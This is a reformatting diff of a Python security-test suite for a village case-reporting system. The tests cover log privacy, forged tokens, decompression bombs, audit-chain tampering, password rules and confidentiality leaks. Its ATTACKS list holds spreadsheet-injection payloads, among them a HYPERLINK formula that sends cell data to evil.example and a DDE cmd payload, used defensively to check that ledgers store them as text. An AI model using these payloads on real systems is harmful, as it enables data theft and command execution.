@@ -21,9 +21,11 @@ SECRET_NAME, SECRET_PHONE = "赵秘密", "13912345678"
 
 # --- 1. identity in the error log --------------------------------------------------------
 
+
 def test_a_failing_statement_carries_none_of_its_values(world, caplog):
     UserFactory(username="twin", display_name="张三")
     db.session.flush()
+
     def twin():
         UserFactory(username="twin", display_name=SECRET_NAME, phone=SECRET_PHONE)
         db.session.flush()
@@ -37,8 +39,11 @@ def test_a_failing_statement_carries_none_of_its_values(world, caplog):
 
 
 def test_a_place_too_long_is_refused_by_the_core_with_the_form_kept(client, world):
-    page = post(client, world, form(world, place_text="村" * 201, anonymous="no",
-                                    name=SECRET_NAME, phone=SECRET_PHONE))
+    page = post(
+        client,
+        world,
+        form(world, place_text="村" * 201, anonymous="no", name=SECRET_NAME, phone=SECRET_PHONE),
+    )
     assert page.status_code == 422
     body = page.get_data(as_text=True)
     assert "地点最多200字" in body
@@ -46,8 +51,9 @@ def test_a_place_too_long_is_refused_by_the_core_with_the_form_kept(client, worl
     assert db.session.scalar(select(func.count(Case.id))) == 0
 
 
-def test_a_villager_report_that_fails_inside_keeps_what_was_typed(client, world, monkeypatch,
-                                                                  caplog):
+def test_a_villager_report_that_fails_inside_keeps_what_was_typed(
+    client, world, monkeypatch, caplog
+):
     from server import operations
 
     def broken(*args, **kwargs):
@@ -55,8 +61,9 @@ def test_a_villager_report_that_fails_inside_keeps_what_was_typed(client, world,
 
     monkeypatch.setattr(operations, "submit_villager_report", broken)
     with caplog.at_level(logging.DEBUG):
-        page = post(client, world, form(world, anonymous="no", name=SECRET_NAME,
-                                        phone=SECRET_PHONE))
+        page = post(
+            client, world, form(world, anonymous="no", name=SECRET_NAME, phone=SECRET_PHONE)
+        )
     assert page.status_code == 500
     body = page.get_data(as_text=True)
     assert "您填写的内容还在" in body
@@ -67,6 +74,7 @@ def test_a_villager_report_that_fails_inside_keeps_what_was_typed(client, world,
 
 
 # --- 3. forged tokens -------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("env", ["prod", "prd", "Production", ""])
 def test_an_environment_not_named_exactly_does_not_start(env, tmp_path, monkeypatch):
@@ -82,8 +90,10 @@ def test_a_token_cannot_be_made_from_what_an_attacker_can_know(client, world, lo
     center = world.center
     key = auth._signing_key()
     stamp = int(center.password_changed_at.timestamp() * 1_000_000)
-    for claims in ({"sub": str(center.id), "pwd": stamp, "typ": "api", "exp": 4102444800},
-                   {"sub": str(center.id), "sec": "0" * 32, "typ": "api", "exp": 4102444800}):
+    for claims in (
+        {"sub": str(center.id), "pwd": stamp, "typ": "api", "exp": 4102444800},
+        {"sub": str(center.id), "sec": "0" * 32, "typ": "api", "exp": 4102444800},
+    ):
         forged = jwt.encode(claims, key, algorithm="HS256")
         answer = client.get("/api/v1/auth/me", headers={"Authorization": f"Bearer {forged}"})
         assert answer.status_code == 401, claims
@@ -104,8 +114,14 @@ def test_a_password_change_takes_every_token_back(client, world, login):
 
 # --- 4. formulas in the ledgers ------------------------------------------------------------
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0",
-           "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+]
 
 
 def test_what_people_typed_is_text_in_every_ledger(world):
@@ -122,8 +138,13 @@ def test_what_people_typed_is_text_in_every_ledger(world):
     at = datetime(2026, 6, 10, 10, tzinfo=ZoneInfo("Asia/Shanghai"))
     with clock.frozen_at(at):
         for attack in ATTACKS:
-            new_report(world, "D02", description=attack, place_text=attack.strip()[:200],
-                       parties=[Party(name=attack.strip()[:64], side="applicant")])
+            new_report(
+                world,
+                "D02",
+                description=attack,
+                place_text=attack.strip()[:200],
+                parties=[Party(name=attack.strip()[:64], side="applicant")],
+            )
     for kind in ("disputes", "cases"):
         out = io.BytesIO()
         with clock.frozen_at(at.replace(month=7)):
@@ -132,14 +153,16 @@ def test_what_people_typed_is_text_in_every_ledger(world):
         cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
         assert not [c.coordinate for c in cells if c.data_type == "f"], kind
         texts = [c.value for c in cells if isinstance(c.value, str)]
-        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t"))
-                    and not t[:1].isdigit()], kind
+        assert not [
+            t for t in texts if t.startswith(("=", "+", "-", "@", "\t")) and not t[:1].isdigit()
+        ], kind
         if kind == "disputes":  # it carries the parties and the description
             for attack in ATTACKS:
                 assert any(attack.strip() in t for t in texts), (kind, attack)
 
 
 # --- 6. confidential cases leak by their text ---------------------------------------------
+
 
 def test_a_confidential_case_s_messages_name_neither_its_kind_nor_its_content(world):
     from server import access, workflow
@@ -158,8 +181,11 @@ def test_a_confidential_case_s_messages_name_neither_its_kind_nor_its_content(wo
     db.session.flush()
     notes = db.session.scalars(select(Notification).where(Notification.case_id == case.id)).all()
     assert notes
-    outside = [n for n in notes if n.channel != "inbox"
-               or not access.can_view_case(db.session.get(User, n.user_id), case)]
+    outside = [
+        n
+        for n in notes
+        if n.channel != "inbox" or not access.can_view_case(db.session.get(User, n.user_id), case)
+    ]
     assert outside  # SMS and WeChat copies, and the village's workers
     for note in outside:
         assert "涉贩毒" not in note.title + note.body, note.body
@@ -171,13 +197,14 @@ def test_a_confidential_case_s_messages_name_neither_its_kind_nor_its_content(wo
 
 # --- 8. memory bombs ----------------------------------------------------------------------
 
+
 def _flat_png(width, height, mode="RGBA") -> bytes:
     import io
 
     from PIL import Image
 
     out = io.BytesIO()
-    Image.new(mode, (width, height), (200, 30, 30, 255)[:len(mode)]).save(out, "PNG")
+    Image.new(mode, (width, height), (200, 30, 30, 255)[: len(mode)]).save(out, "PNG")
     return out.getvalue()
 
 
@@ -195,8 +222,12 @@ def test_a_small_file_that_decodes_huge_is_refused_from_its_header(app, monkeypa
 
     monkeypatch.setattr(Image.Image, "load", never)
     with pytest.raises(PayloadTooLarge):
-        media.process_image(bomb, max_pixels=50_000_000, max_side=1920,
-                            max_decoded=app.config["MEDIA_MAX_DECODED_BYTES"])
+        media.process_image(
+            bomb,
+            max_pixels=50_000_000,
+            max_side=1920,
+            max_decoded=app.config["MEDIA_MAX_DECODED_BYTES"],
+        )
 
 
 def test_a_worker_decodes_only_so_many_images_at_once(monkeypatch):
@@ -213,8 +244,9 @@ def test_a_worker_decodes_only_so_many_images_at_once(monkeypatch):
         assert busy.value.code == "media_busy"
     finally:
         slot.release()
-    assert media.process_image(_flat_png(10, 10), max_pixels=100, max_side=1920,
-                               slots=1).width == 10
+    assert (
+        media.process_image(_flat_png(10, 10), max_pixels=100, max_side=1920, slots=1).width == 10
+    )
 
 
 def test_the_largest_image_taken_costs_about_a_hundred_megabytes(tmp_path):
@@ -237,15 +269,19 @@ before = hwm()
 media.process_image(raw, max_pixels=50_000_000, max_side=1920, max_decoded=40 * 1024 * 1024)
 print(hwm() - before)
 """
-    out = subprocess.run([sys.executable, "-c", script, str(tmp_path / "big.png")],
-                         capture_output=True, text=True, check=True)
+    out = subprocess.run(
+        [sys.executable, "-c", script, str(tmp_path / "big.png")],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
     assert int(out.stdout) < 120 * 1024, f"{int(out.stdout) // 1024} MB"  # 112 MB seen
 
 
 # --- 9. the audit log can be rewritten ----------------------------------------------------
 
-def test_the_audit_log_is_a_chain_that_shows_a_row_changed_or_taken_out(world, client, login,
-                                                                       app):
+
+def test_the_audit_log_is_a_chain_that_shows_a_row_changed_or_taken_out(world, client, login, app):
     from sqlalchemy import update
 
     from server import audit
@@ -263,11 +299,9 @@ def test_the_audit_log_is_a_chain_that_shows_a_row_changed_or_taken_out(world, c
     rows = db.session.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()
     assert len(rows) == audit.verify().checked > 5
     middle = rows[len(rows) // 2]
-    db.session.execute(update(AuditEntry).where(AuditEntry.id == middle.id)
-                       .values(ip="10.0.0.1"))
+    db.session.execute(update(AuditEntry).where(AuditEntry.id == middle.id).values(ip="10.0.0.1"))
     assert audit.verify().broken_at == middle.id
-    db.session.execute(update(AuditEntry).where(AuditEntry.id == middle.id)
-                       .values(ip=middle.ip))
+    db.session.execute(update(AuditEntry).where(AuditEntry.id == middle.id).values(ip=middle.ip))
     db.session.expire_all()
     assert audit.verify().broken_at is None
     db.session.execute(delete(AuditEntry).where(AuditEntry.id == middle.id))
@@ -296,6 +330,7 @@ def test_the_cli_proves_the_chain(runner, world):
 
 # --- 10. the low ones ---------------------------------------------------------------------
 
+
 def test_the_demo_town_is_not_loaded_in_production(runner, app):
     saved = app.config["ENV"]
     app.config["ENV"] = "production"
@@ -308,8 +343,9 @@ def test_the_demo_town_is_not_loaded_in_production(runner, app):
     assert db.session.scalar(select(func.count(User.id))) == 0
 
 
-@pytest.mark.parametrize("password", ["Admin@123", "Demo@2026", "P@ssw0rd2024!", "1qaz@WSX",
-                                      "Qwer@1234"])
+@pytest.mark.parametrize(
+    "password", ["Admin@123", "Demo@2026", "P@ssw0rd2024!", "1qaz@WSX", "Qwer@1234"]
+)
 def test_common_passwords_are_refused(password):
     from server import passwords
     from server.errors import ValidationFailed
@@ -323,11 +359,13 @@ def test_one_address_spraying_many_usernames_is_slowed(client, world):
     from server import clock
 
     for n in range(10):  # ten usernames, one wrong password each: no username locks
-        answer = client.post("/api/v1/auth/login", json={"username": f"nobody{n}",
-                                                         "password": "Wrong@2026x"})
+        answer = client.post(
+            "/api/v1/auth/login", json={"username": f"nobody{n}", "password": "Wrong@2026x"}
+        )
         assert answer.status_code == 401
-    slowed = client.post("/api/v1/auth/login", json={"username": "t_center",
-                                                     "password": "Wrong@2026x"})
+    slowed = client.post(
+        "/api/v1/auth/login", json={"username": "t_center", "password": "Wrong@2026x"}
+    )
     assert slowed.status_code == 429
     assert slowed.json["code"] == "login_throttled"
     from datetime import timedelta
@@ -353,8 +391,10 @@ def test_the_files_a_villager_s_page_loads_are_logged_without_the_address():
 
 # --- 7 and the whole promise: a named informant, searched for on every surface ------------
 
-def test_a_named_informant_is_found_only_where_the_center_reads_it(client, world, login,
-                                                                  signin, caplog):
+
+def test_a_named_informant_is_found_only_where_the_center_reads_it(
+    client, world, login, signin, caplog
+):
     """A confidential report with a name and phone, driven through every action; then the
     name and phone are looked for in every API answer to every role, every admin page
     and export, the ledgers, the notifications, the stored idempotency answers, the log,
@@ -371,8 +411,18 @@ def test_a_named_informant_is_found_only_where_the_center_reads_it(client, world
 
     name, phone = "钱秘密", "13711112222"
     with caplog.at_level(logging.DEBUG):
-        page = post(client, world, form(world, kind="S04", anonymous="no", name=name,
-                                        phone=phone, description="村西废品站有人贩毒。"))
+        page = post(
+            client,
+            world,
+            form(
+                world,
+                kind="S04",
+                anonymous="no",
+                name=name,
+                phone=phone,
+                description="村西废品站有人贩毒。",
+            ),
+        )
         assert page.status_code == 200
         case = db.session.scalar(select(Case).order_by(Case.id.desc()))
         code = case.code
@@ -380,9 +430,11 @@ def test_a_named_informant_is_found_only_where_the_center_reads_it(client, world
 
         def act(headers, action, **fields):
             version = client.get(f"/api/v1/cases/{code}", headers=headers).json["version"]
-            answer = client.post(f"/api/v1/cases/{code}/actions", headers=headers | {
-                "Idempotency-Key": str(uuid.uuid4())}, json={"action": action,
-                                                              "version": version, **fields})
+            answer = client.post(
+                f"/api/v1/cases/{code}/actions",
+                headers=headers | {"Idempotency-Key": str(uuid.uuid4())},
+                json={"action": action, "version": version, **fields},
+            )
             assert answer.status_code == 200, answer.json
             return answer
 
@@ -396,8 +448,13 @@ def test_a_named_informant_is_found_only_where_the_center_reads_it(client, world
         assert shown_to_center.json["reporter"]["name"] == name  # the center reads it
 
         seen = []
-        for user in (world.police_handler, world.worker1, world.leader, world.admin,
-                     world.justice_handler):
+        for user in (
+            world.police_handler,
+            world.worker1,
+            world.leader,
+            world.admin,
+            world.justice_handler,
+        ):
             headers = login(user)
             seen.append(client.get(f"/api/v1/cases/{code}", headers=headers))
             seen.append(client.get("/api/v1/cases", headers=headers))
@@ -405,16 +462,23 @@ def test_a_named_informant_is_found_only_where_the_center_reads_it(client, world
             seen.append(client.get("/api/v1/inbox", headers=headers))
         for user in (world.police_handler, world.leader):
             signin(user)
-            for url in (f"/admin/cases/{code}", f"/admin/cases/{code}/print", "/admin/",
-                        "/admin/inbox", "/admin/dashboard", "/admin/report"):
+            for url in (
+                f"/admin/cases/{code}",
+                f"/admin/cases/{code}/print",
+                "/admin/",
+                "/admin/inbox",
+                "/admin/dashboard",
+                "/admin/report",
+            ):
                 seen.append(client.get(url))
         # JSON escapes Chinese (\\u94b1...): looked for both as read and as escaped.
         texts = [r.get_data(as_text=True) for r in seen]
         with clock.frozen_at(clock.now() + timedelta(days=40)):
             for kind in ledgers.KINDS:
                 out = io.BytesIO()
-                ledgers.write(kind, statistics.month(*clock.local(case.created_at).timetuple()[:2]),
-                              out)
+                ledgers.write(
+                    kind, statistics.month(*clock.local(case.created_at).timetuple()[:2]), out
+                )
                 from openpyxl import load_workbook
 
                 book = load_workbook(io.BytesIO(out.getvalue()), read_only=True)
@@ -442,14 +506,18 @@ def test_a_named_informant_is_found_only_where_the_center_reads_it(client, world
 
 # --- 2. separation of duties (三员分立) -----------------------------------------------------
 
-def test_each_of_the_three_duties_does_its_own_work_and_reads_no_case(client, world, signin,
-                                                                     login):
+
+def test_each_of_the_three_duties_does_its_own_work_and_reads_no_case(client, world, signin, login):
     from tests.helpers import case_in
 
     case = case_in("submitted", world)
     db.session.flush()
-    pages = {"/admin/users": world.security, "/admin/audit": world.auditor,
-             "/admin/departments": world.admin, "/admin/categories": world.admin}
+    pages = {
+        "/admin/users": world.security,
+        "/admin/audit": world.auditor,
+        "/admin/departments": world.admin,
+        "/admin/categories": world.admin,
+    }
     for user in (world.admin, world.security, world.auditor):
         signin(user)
         for url, owner in pages.items():
@@ -470,14 +538,22 @@ def test_a_privileged_account_waits_for_a_second_security_admin(client, world, s
     second = UserFactory(username="t_security2", role="security_admin")
     db.session.flush()
     token = signin(world.security)
-    client.post("/admin/users", data={"csrf_token": token, "username": "newcenter",
-                                      "display_name": "新值班员", "role": "center",
-                                      "password": "Center@Duty77x"})
+    client.post(
+        "/admin/users",
+        data={
+            "csrf_token": token,
+            "username": "newcenter",
+            "display_name": "新值班员",
+            "role": "center",
+            "password": "Center@Duty77x",
+        },
+    )
     made = db.session.scalar(select(User).where(User.username == "newcenter"))
     assert made.active is False  # cannot read an informant yet
     (asked,) = db.session.scalars(select(Approval)).all()
-    refused = client.post(f"/admin/approvals/{asked.id}/approve", data={"csrf_token": token},
-                          follow_redirects=True)
+    refused = client.post(
+        f"/admin/approvals/{asked.id}/approve", data={"csrf_token": token}, follow_redirects=True
+    )
     assert "不能审批自己提出的事项" in refused.get_data(as_text=True)
     assert db.session.get(User, made.id).active is False
     token = signin(second)
@@ -485,8 +561,10 @@ def test_a_privileged_account_waits_for_a_second_security_admin(client, world, s
     client.post(f"/admin/approvals/{asked.id}/approve", data={"csrf_token": token})
     assert db.session.get(User, made.id).active is True
     # Resetting a center account's password waits too; applied, it must be changed.
-    client.post(f"/admin/users/{world.center.id}/password",
-                data={"csrf_token": token, "password": "Reset@Center88"})
+    client.post(
+        f"/admin/users/{world.center.id}/password",
+        data={"csrf_token": token, "password": "Reset@Center88"},
+    )
     assert db.session.get(User, world.center.id).must_change_password is False
     reset = db.session.scalar(select(Approval).where(Approval.kind == "reset_password"))
     assert "password_hash" in reset.payload
@@ -509,11 +587,25 @@ def test_clearing_confidential_waits_for_a_second_system_admin(client, world, si
     drugs = db.session.scalar(select(Category).where(Category.code == "S04"))
     assert drugs.confidential
     token = signin(world.admin)
-    form = {"csrf_token": token, "code": "S04", "name": drugs.name,
-            "default_risk_level": drugs.default_risk_level.value, "active": "yes",
-            "urgent": "yes", **{f"due_{s}": d for s, d in (
-                ("accept", "30m"), ("dispatch", "1h"), ("sign_for", "1h"), ("handle", "5wd"),
-                ("verify", "2wd"), ("follow_up", "7d"))}}  # no "confidential": cleared
+    form = {
+        "csrf_token": token,
+        "code": "S04",
+        "name": drugs.name,
+        "default_risk_level": drugs.default_risk_level.value,
+        "active": "yes",
+        "urgent": "yes",
+        **{
+            f"due_{s}": d
+            for s, d in (
+                ("accept", "30m"),
+                ("dispatch", "1h"),
+                ("sign_for", "1h"),
+                ("handle", "5wd"),
+                ("verify", "2wd"),
+                ("follow_up", "7d"),
+            )
+        },
+    }  # no "confidential": cleared
     page = client.post("/admin/categories", data=form, follow_redirects=True)
     assert "取消保密须由另一位系统管理员审批" in page.get_data(as_text=True)
     assert db.session.get(Category, drugs.id).confidential  # still
@@ -525,33 +617,49 @@ def test_clearing_confidential_waits_for_a_second_system_admin(client, world, si
 
 def test_a_reset_password_is_changed_before_anything_else(client, world, signin):
     token = signin(world.security)
-    client.post(f"/admin/users/{world.justice_handler.id}/password",
-                data={"csrf_token": token, "password": "Given@Justice55"})
+    client.post(
+        f"/admin/users/{world.justice_handler.id}/password",
+        data={"csrf_token": token, "password": "Given@Justice55"},
+    )
     # The admin sends them to change it first.
     token = signin(world.justice_handler, password="Given@Justice55")
     assert client.get("/admin/").headers["Location"].endswith("/admin/password")
-    changed = client.post("/admin/password", data={
-        "csrf_token": token, "current": "Given@Justice55", "new_password": "Mine@Justice66",
-        "confirm": "Mine@Justice66"})
+    changed = client.post(
+        "/admin/password",
+        data={
+            "csrf_token": token,
+            "current": "Given@Justice55",
+            "new_password": "Mine@Justice66",
+            "confirm": "Mine@Justice66",
+        },
+    )
     assert changed.status_code == 302
     assert client.get("/admin/").status_code == 200
     # The API refuses a token until it is changed, and takes the change.
     token = signin(world.security)
-    client.post(f"/admin/users/{world.worker1.id}/password",
-                data={"csrf_token": token, "password": "Given@Worker55"})
-    refused = client.post("/api/v1/auth/login", json={"username": "t_grid1",
-                                                       "password": "Given@Worker55"})
+    client.post(
+        f"/admin/users/{world.worker1.id}/password",
+        data={"csrf_token": token, "password": "Given@Worker55"},
+    )
+    refused = client.post(
+        "/api/v1/auth/login", json={"username": "t_grid1", "password": "Given@Worker55"}
+    )
     assert refused.status_code == 403
     assert refused.json["code"] == "password_change_required"
-    chosen = client.post("/api/v1/auth/password", json={
-        "username": "t_grid1", "password": "Given@Worker55", "new_password": "Mine@Worker66"})
+    chosen = client.post(
+        "/api/v1/auth/password",
+        json={"username": "t_grid1", "password": "Given@Worker55", "new_password": "Mine@Worker66"},
+    )
     assert chosen.status_code == 200
-    assert client.get("/api/v1/auth/me", headers={
-        "Authorization": f"Bearer {chosen.json['token']}"}).status_code == 200
+    assert (
+        client.get(
+            "/api/v1/auth/me", headers={"Authorization": f"Bearer {chosen.json['token']}"}
+        ).status_code
+        == 200
+    )
 
 
-def test_the_dashboard_names_no_household_by_village_and_confidential_kind(client, world,
-                                                                          signin):
+def test_the_dashboard_names_no_household_by_village_and_confidential_kind(client, world, signin):
     from server import clock
     from tests.helpers import new_report
 
@@ -565,12 +673,15 @@ def test_the_dashboard_names_no_household_by_village_and_confidential_kind(clien
     by_village = client.get(f"/admin/dashboard?{month}&category=S04").get_data(as_text=True)
     assert "东村</td><td><a" not in by_village  # the village bar of 1 is left out
     in_village = client.get(f"/admin/dashboard?{month}&village={world.v1.id}").get_data(
-        as_text=True)
+        as_text=True
+    )
     assert "涉贩毒</td>" not in in_village
     signin(world.center)  # the center sees every cell
     both = f"/admin/dashboard?{month}&village={world.v1.id}&category=S04"
     assert client.get(both).status_code == 200
     assert "东村</td><td><a" in client.get(f"/admin/dashboard?{month}&category=S04").get_data(
-        as_text=True)
+        as_text=True
+    )
     assert "涉贩毒</td>" in client.get(f"/admin/dashboard?{month}&village={world.v1.id}").get_data(
-        as_text=True)
+        as_text=True
+    )
